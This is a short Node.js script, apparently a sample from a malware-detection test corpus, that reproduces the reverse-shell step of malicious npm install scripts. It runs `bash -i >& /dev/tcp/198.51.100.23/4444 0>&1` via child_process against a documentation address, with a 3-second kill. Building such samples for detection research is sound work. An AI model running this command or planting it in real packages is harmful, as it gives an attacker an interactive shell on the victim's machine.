'use strict';
// MALICIOUS TEST PACKAGE (pkgtrace corpus). Run it only inside the sandbox.
// The bash reverse shell that install scripts of many malicious npm packages
// start (a one-liner in package.json or behind child_process, 2021-2024):
// `bash -i >& /dev/tcp/<ip>/<port> 0>&1` connects to the attacker and puts
// the socket on the shell's stdin, stdout and stderr. Here the address is a
// documentation one (198.51.100.23:4444) and the shell is SIGKILLed after
// 3 s (an interactive bash ignores SIGTERM):
// in the sandbox the sink accepts, records what the shell printed and sends
// no command. Prints `mal-revshell-bash: step N ...`; exits 0 whatever
// fails, after 5 s at the latest.
const { execFile } = require('child_process');

const say = (msg) => console.log(`mal-revshell-bash: ${msg}`);
setTimeout(() => { say('gave up after 5 s'); process.exit(0); }, 5000).unref();
process.on('uncaughtException', (e) => { say(`error ${e.code || e.message}`); process.exit(0); });

const line = 'bash -i >& /dev/tcp/198.51.100.23/4444 0>&1';
say(`step 1 starting bash -c '${line}'`);
const started = Date.now();
execFile('bash', ['-c', line], { timeout: 3000, killSignal: 'SIGKILL' }, (err, stdout, stderr) => {
  const how = err ? (err.killed ? `killed after ${Date.now() - started} ms` : `exit ${err.code}`) : 'exit 0';
  say(`step 2 reverse shell ended: ${how}; stderr ${JSON.stringify(String(stderr).slice(0, 160))}`);
  process.exit(0);
});
